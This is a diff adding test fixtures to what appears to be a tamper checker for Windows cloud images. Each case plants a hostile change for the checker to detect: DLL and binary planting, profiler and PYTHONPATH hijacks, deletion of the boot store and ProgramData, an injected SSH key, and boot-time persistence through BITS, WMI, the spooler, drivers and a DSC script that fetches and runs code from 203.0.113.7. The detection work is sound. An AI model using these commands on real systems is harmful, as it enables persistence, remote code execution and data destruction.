@@ -61,6 +61,34 @@ script('remote-management-in-clear', 'Passwords go over the network as they are.
 script('port-of-file-shares-opened', 'The name of a rule says nothing of what it opens.',
        'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=445\r\n')
 script('feature-of-another-medium', 'dism takes a feature from the folder that it is told of.', 'dism /online /enable-feature /featurename:NetFx3 /source:C:\\ProgramData\\x\r\n')
+DATA = r'C:\ProgramData\x'
+
+
+def beside(name, why, text, at):
+    """A script whose command is a program of the folder that it runs in."""
+    change.row(name, why, CHECK, at.rpartition('\\')[2], lambda d: (d.foreign(at), d.put(COMPLETE, USUAL + text)))
+
+
+beside('program-of-the-current-folder', 'cmd.exe looks in the current folder first, before System32.', f'cd /d {DATA}\r\nping 127.0.0.1\r\n', rf'{DATA}\ping.exe')
+beside('program-of-a-pushed-folder', 'pushd changes the folder, too; any ending of PATHEXT will do.', f'pushd {DATA}\r\nwhoami\r\n', rf'{DATA}\whoami.com')
+beside('program-of-a-folder-in-two-steps', 'cd takes names relative to the folder it is in.', 'cd /d C:\\ProgramData\r\ncd x\r\ntzutil /g\r\n', rf'{DATA}\tzutil.exe')
+beside('program-beside-the-script', 'A script may run in its own folder.', 'cd /d %~dp0\r\nping 127.0.0.1\r\n', r'C:\Windows\Setup\Scripts\ping.exe')
+script('folder-of-another-disk', 'Whatever medium is there when the machine starts has the program.', 'cd /d E:\\tools\r\nping 127.0.0.1\r\n')
+script('profiler-of-the-script', 'The variable makes each program of .NET that the script starts load the library.',
+       'set COR_ENABLE_PROFILING=1\r\nset COR_PROFILER_PATH=C:\\ProgramData\\x\\x.dll\r\npowershell -Command Get-Date\r\n')
+script('module-of-python-by-the-script', 'The variable makes cloudbase-init load modules of that folder.', 'set "PYTHONPATH=C:\\ProgramData\\x"\r\n')
+script('boot-store-removed', 'Without its store the image does not start again.', 'del /f /q C:\\Boot\\BCD\r\n')
+script('data-of-agents-removed', 'Agents keep what they know below ProgramData.', 'rd /s /q C:\\ProgramData\\QCloud\r\n')
+script('all-data-removed', 'A pattern stands for every folder.', 'del /s /f /q C:\\ProgramData\\*.*\r\n')
+script('waiting-for-ever', 'ping waits a second between two of its packets.', 'ping -n 99999999 127.0.0.1\r\n')
+script('waiting-for-a-key', 'timeout with -1 waits until somebody presses a key, and nobody sees it.', 'timeout /t -1\r\n')
+script('loop-without-an-end', 'The setup of the machine waits for its script.', ':again\r\ntimeout /t 1\r\ngoto again\r\n')
+change.row('restart-before-the-rest', 'The machine restarts before the services are started; the script does not run again.', CHECK, 'SetupComplete.cmd',
+           lambda d: d.put(COMPLETE, 'shutdown /r /f /t 0\r\n' + USUAL))
+script('keys-written-by-the-script', 'What ends in .txt may be read as well as anything else.', 'echo ssh-ed25519 AAAA eve> C:\\ProgramData\\ssh\\keys.txt\r\n')
+script('machine-put-to-sleep', 'A machine of a cloud that sleeps is not reached any more.', 'powercfg /change standby-timeout-ac 1\r\n')
+script('library-named-in-the-registry', 'Programs of any maker load what their settings name.',
+       f'reg add "HKLM\\SOFTWARE\\Apache Software Foundation\\Procrun 2.0\\T\\Parameters\\Java" /v Jvm /d {DATA}\\x.dll /f\r\n')
 change.row('cloudbase-disabled', 'The script that should start the services disables them.', CLOUD, 'SetupComplete.cmd',
            lambda d: d.put(COMPLETE, 'sc config cloudbase-init start= disabled\r\nsc config win-agent start= disabled\r\n'))
 
@@ -157,3 +185,49 @@ def module_of_sysprep(d):
 def module_of_sysprep_in_the_registry(d):
     """SysPrepExternal names further modules."""
     d.software(rf'{CURRENT}\Setup\SysPrepExternal\Specialize', 'x', SZ, d.foreign(r'C:\Windows\System32\evil.dll') + ',Go')
+
+
+# --- what waits for the next start ---
+
+
+def waiting(name, why, path, data, place=None):
+    change.row(name, why, CHECK, place or path.rpartition('\\')[2], lambda d: d.put(path, data))
+
+
+waiting('package-of-the-recovery', 'Packages of Customizations are applied at the first start.', r'Recovery\Customizations\a.ppkg', b'MSWIM\0\0\0' + bytes(300))
+waiting('provisioning-package', 'Packages of Windows are applied at the first start.', r'Windows\Provisioning\Packages\a.ppkg', b'MSWIM\0\0\0' + bytes(300))
+waiting('desired-state', 'The configuration manager applies Pending.mof at the next start, as the system.', r'Windows\System32\Configuration\Pending.mof',
+        'instance of MSFT_ScriptResource as $x { SetScript="iex (iwr http://203.0.113.7/a)"; };')
+waiting('queue-of-transfers', 'BITS runs a command when its transfer ends.', r'ProgramData\Microsoft\Network\Downloader\qmgr.db',
+        bytes(600) + wide(r'C:\Windows\System32\cmd.exe /c C:\ProgramData\x\x.exe') + bytes(600))
+waiting('transfer-from-a-strange-host', 'BITS fetches a file wherever it is told to.', r'ProgramData\Microsoft\Network\Downloader\qmgr0.dat',
+        bytes(99) + wide('https://203.0.113.7/x.bin') + bytes(99))
+waiting('servicing-that-waits', 'Servicing carries out the operations of pending.xml before the logon.', r'Windows\WinSxS\pending.xml',
+        '<PendingTransaction><POQ><HardlinkFile source="x" destination="y"/></POQ></PendingTransaction>')
+waiting('print-job-that-waits', 'The spooler prints what lies there at its start.', r'Windows\System32\spool\PRINTERS\00001.SPL', b'MZ' + bytes(300))
+change.row('port-that-is-a-file', 'The spooler writes what is printed to the file that a port names, as the system.', CHECK, 'ualapi.dll',
+           lambda d: d.software(rf'{NT}\Ports', r'C:\Windows\System32\ualapi.dll', SZ, ''))
+waiting('recovery-elsewhere', 'ReAgent.xml says which image the recovery starts.', r'Windows\System32\Recovery\ReAgent.xml',
+        '<WindowsRE version="2.0"><WinreLocation path="\\evil" id="0" offset="1048576" guid="{}"/><ScheduledOperation state="4"/></WindowsRE>')
+change.row('server-that-manages', 'A management server installs and runs what it likes.', CHECK, '203.0.113.7',
+           lambda d: d.software(r'Microsoft\Enrollments\{AAAAAAAA-1111-2222-3333-444455556666}', 'DiscoveryServiceFullURL', SZ, 'https://203.0.113.7/Discovery.svc'))
+change.row('application-of-every-user', 'Each new user gets the packages of the list; a task of theirs starts at the logon.', CHECK, 'AppxManifest.xml',
+           lambda d: d.software(rf'{CURRENT}\Appx\AppxAllUserStore\InboxApplications\Evil_1.0.0.0_x64__aaaaaaaaaaaaa', 'Path', SZ, r'C:\ProgramData\ax\AppxManifest.xml'))
+
+
+@change(CHECK, 'evil.dll')
+def provider_of_wmi(d):
+    """The host of WMI loads the class of each provider that a text of classes registers."""
+    clsid = '{DEADBEEF-1111-2222-3333-444455556666}'
+    d.com(clsid, d.foreign(r'C:\Windows\System32\evil.dll'))
+    d.put(r'Windows\System32\wbem\x.mof', 'instance of __Win32Provider as $P\n{\n  Name = "X";\n  ClsId = "%s";\n};\n' % clsid)
+    d.software(r'Microsoft\Wbem\CIMOM', 'Autorecover MOFs', MULTI, [r'%windir%\system32\wbem\x.mof'])
+
+
+@change(CHECK, 'evil.sys')
+def package_of_a_driver(d):
+    """Windows installs a package of its store as it finds the device."""
+    store = r'Windows\System32\DriverStore\FileRepository\evil.inf_amd64_0123456789abcdef'
+    d.foreign(rf'C:\{store}\evil.sys')
+    d.put(rf'{store}\evil.inf', '[Version]\nSignature="$WINDOWS NT$"\nClass=Net\n')
+    d.value(r'Windows\System32\config\DRIVERS', r'DriverDatabase\DeviceIds\PCI\VEN_1AF4&DEV_1000', 'oem7.inf', BINARY, b'\1\xff\0\0')
